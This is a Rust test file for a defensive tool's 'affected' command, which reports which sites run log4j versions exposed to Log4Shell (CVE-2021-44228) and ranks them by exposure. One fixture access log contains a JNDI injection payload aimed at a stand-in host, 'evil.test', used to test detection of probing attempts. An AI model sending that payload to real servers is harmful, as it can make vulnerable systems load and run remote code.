//! `relight affected`: three values, with reasons.

use expect_test::expect;

use crate::place::{Place, log4j};

/// One site affected, one clear, one that could not be read.
fn answered() -> Place {
    let place = Place::with_sites();
    place.write("bad/log4j.jar", log4j("2.14.1"));
    place.write("good/log4j.jar", log4j("2.17.1"));
    place.write("torn/log4j.jar", &log4j("2.14.1")[..60]);
    place.expect(0, &["scan", "bad", "--site", "san-001"]);
    place.expect(0, &["scan", "good", "--site", "san-002"]);
    place.expect(3, &["scan", "torn", "--site", "mun-001"]);
    place
}

#[test]
fn the_answer_has_three_values_with_reasons() {
    let place = answered();
    place.run(&["affected", "CVE-2021-44228"]).matches("affected-en");
    place.run(&["affected", "cve-2021-44228", "--lang", "fr"]).matches("affected-fr");
    for by in ["org", "edge", "component", "site", "none"] {
        let outcome = place.expect(3, &["affected", "log4j-core<2.17.1", "--by", by]);
        assert!(outcome.stdout.starts_with("1 of 3 sites affected, 1 unknown, 1 clear\n"));
    }
    let paths = place.expect(3, &["affected", "CVE-2021-44228", "--by", "site", "--paths"]).stdout;
    assert!(paths.contains(" ◆ san-001  log4j.jar\n"), "{paths}");
    assert!(!paths.contains("san-002"), "{paths}");
}

#[test]
fn the_document_counts_every_site_once() {
    let place = answered();
    let document = place.expect(3, &["affected", "CVE-2021-44228", "--json"]).json();
    assert_eq!(document["schema"], "relight.answer/1");
    assert_eq!(document["query"], "CVE-2021-44228");
    assert_eq!(document["advisories_at"], serde_json::Value::Null);
    assert_eq!(document["total"], serde_json::json!({ "affected": 1, "clear": 1, "unknown": 1 }));
    assert_eq!(document["reasons"], serde_json::json!({ "partial-corrupt": 1 }));
    let items = document["items"].as_array().unwrap();
    let verdicts: Vec<_> = items.iter().map(|item| (&item["site"], &item["verdict"])).collect();
    let expected = [("mun-001", "unknown"), ("san-001", "affected"), ("san-002", "clear")]
        .map(|(a, b)| (a, b));
    assert_eq!(verdicts.len(), expected.len());
    for ((site, verdict), (slug, word)) in verdicts.into_iter().zip(expected) {
        assert_eq!((site, verdict), (&slug.into(), &word.into()));
    }
    assert_eq!(items[1]["evidence"][0], "log4j.jar");
}

#[test]
fn exit_statuses_follow_their_precedence() {
    let place = answered();
    place.expect(10, &["affected", "CVE-2021-44228", "--fail"]);
    place.expect(3, &["affected", "CVE-2021-44228"]);
    place.expect(0, &["affected", "CVE-2021-44228", "--sites", "site:san-001"]);
    place.expect(10, &["affected", "CVE-2021-44228", "--sites", "site:san-001", "--fail"]);
    place.expect(0, &["affected", "CVE-2021-44228", "--sites", "clear", "--fail"]);
    place.expect(3, &["affected", "CVE-2021-44228", "--sites", "unknown", "--fail"]);
    place.expect(0, &["affected", "pkg:npm/left-pad", "--sites", "not unknown"]);
}

#[test]
fn what_cannot_be_asked_is_told_with_its_place() {
    let place = answered();
    let query = ["affected", "CVE-2021-44228", "--sites", "org:SAN crt<=2"];
    place.run(&query).matches("query-unknown-key");
    let query = ["--lang", "fr", "affected", "CVE-2021-44228", "--sites", "(afected"];
    place.run(&query).matches("query-unknown-word-fr");
    place.run(&["affected", "log4j-core<"]).matches("question-no-version");
    expect![[r#"
        --- stderr
        erreur : aucun avis ne porte l’identifiant CVE-1999-0001
        conseil : mettez les avis à jour : relight advisories update --offline DIR
        --- status 1
    "#]]
    .assert_eq(&place.run(&["affected", "CVE-1999-0001", "--lang", "fr"]).text());
    expect![[r#"
        --- stderr
        error: “affected”, “clear” and “unknown” alone need a question
        hint: name it: affected:CVE-2021-44228
        --- status 2
    "#]]
    .assert_eq(&place.run(&["sites", "list", "affected"]).text());
    place.expect(0, &["sites", "list", "affected:CVE-2021-44228"]);
}

/// The register can be asked as of a moment; what is not one is refused with its remedy.
#[test]
fn a_moment_of_the_past_has_the_inventories_of_then() {
    let place = answered();
    let ask = |at: &str, status| {
        place.expect(status, &["affected", "CVE-2021-44228", "--at", at, "--json"]).json()
    };
    let now = place.expect(3, &["affected", "CVE-2021-44228", "--json"]).json();
    let same = ask(now["at"].as_str().unwrap(), 3);
    assert_eq!((&same["total"], &same["at"]), (&now["total"], &now["at"]));
    let before = ask("2001-02-03", 3);
    assert_eq!(before["at"], "2001-02-03T23:59:59Z");
    assert_eq!(before["reasons"], serde_json::json!({ "never-inventoried": 3 }));
    for at in ["2001-02-30", "9999-01-01", "yesterday"] {
        place.expect(2, &["affected", "CVE-2021-44228", "--at", at]);
    }
    expect![[r#"
        --- stderr
        erreur : « hier » n’est pas un moment du passé
        conseil : écrivez --at 2021-12-10 pour la fin d’un jour, ou --at 2021-12-10T18:00:00Z
        --- status 2
    "#]]
    .assert_eq(&place.run(&["affected", "x", "--at", "hier", "--lang", "fr"]).text());
}

/// Who can reach a site ranks it among equals, with its reason; so does an attempt in its log.
#[test]
fn exposure_and_attempts_rank_sites_and_are_explained() {
    let place = answered();
    let reasons = |slug: &str| -> Vec<String> {
        let document = place.expect(3, &["affected", "CVE-2021-44228", "--json"]).json();
        let items = document["items"].as_array().unwrap();
        let item = items.iter().find(|item| item["site"] == slug).unwrap();
        let reasons = item["priority"]["reasons"].as_array().unwrap();
        reasons.iter().map(|it| it["code"].as_str().unwrap().to_owned()).collect()
    };
    assert!(reasons("san-001").contains(&"priority-exposure-unknown".to_owned()));
    assert!(!reasons("san-001").contains(&"priority-probed-site".to_owned()));
    place.write(
        "more.csv",
        "slug,origin,organisation,sector,criticality,edge,exposure\n\
         san-001,https://san1.example,Santé Nord,health,2,north,internal\n\
         san-003,https://san3.example,Santé Nord,health,2,north,controlled\n\
         san-004,https://san4.example,Santé Nord,health,2,north,internet\n",
    );
    place.expect(0, &["sites", "import", "more.csv"]);
    place.expect(0, &["scan", "bad", "--site", "san-003"]);
    place.expect(0, &["scan", "bad", "--site", "san-004"]);
    expect![[r#"
        CVE-2021-44228  Log4Shell: text that is logged can make log4j-core load and run code from a remote server
        CVSS 10.0 · KEV · SSVC act · affects >=2.0-beta9 <2.3.1, >=2.13.0 <2.15.0, >=2.4 <2.12.2 · fixed in 2.12.2, 2.15.0, 2.3.1
        3 of 5 sites affected, 1 unknown, 1 clear
         Site     Answer    Exposure                                        Reason
         san-004  affected  the internet                                    log4j-core
         san-003  affected  through a control (VPN, address list, partner)  log4j-core
         san-001  affected  inside only                                     log4j-core
         mun-001  unknown   not known, counts as the internet               a part is corrupt
         ? a part is corrupt: 1
        Next: relight incident open CVE-2021-44228
        --- stderr
        hint: 1 unknown site: relight sites gaps shows what is missing
        --- status 3
    "#]].assert_eq(&place.run(&["affected", "CVE-2021-44228", "--by", "site"]).text());
    let today = relight_server::web::number::rfc3339(now());
    place.write(
        "access.json",
        format!(
            "{{\"time_iso8601\": \"{today}\", \"remote_addr\": \"45.33.32.156\", \"host\": \
             \"san1.example\", \"request\": \"GET /${{jndi:ldap://evil.test/a}} HTTP/1.1\", \
             \"status\": 200, \"body_bytes_sent\": 9, \"http_user_agent\": \"curl\"}}\n"
        ),
    );
    place.expect(0, &["watch", "ingest", "access.json", "--org", "Santé Nord"]);
    let codes = reasons("san-001");
    for code in ["priority-internal", "priority-probed-site", "priority-score-site"] {
        assert!(codes.contains(&code.to_owned()), "{code}: {codes:?}");
    }
    assert!(reasons("san-004").contains(&"priority-probed-organisation".to_owned()));
    assert!(reasons("san-003").contains(&"priority-controlled".to_owned()));
    let by_site = place.expect(3, &["affected", "CVE-2021-44228", "--by", "site"]).stdout;
    assert!(by_site.contains("inside only, attempts seen"), "{by_site}");
    let inside = ["affected", "CVE-2021-44228", "--sites", "exposure:internal"];
    assert!(place.expect(0, &inside).stdout.contains("1 of 1 site affected"));
}

#[expect(clippy::disallowed_methods, reason = "attempts count for 90 days of the real clock")]
fn now() -> i64 {
    let since = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH);
    since.unwrap().as_secs().cast_signed()
}
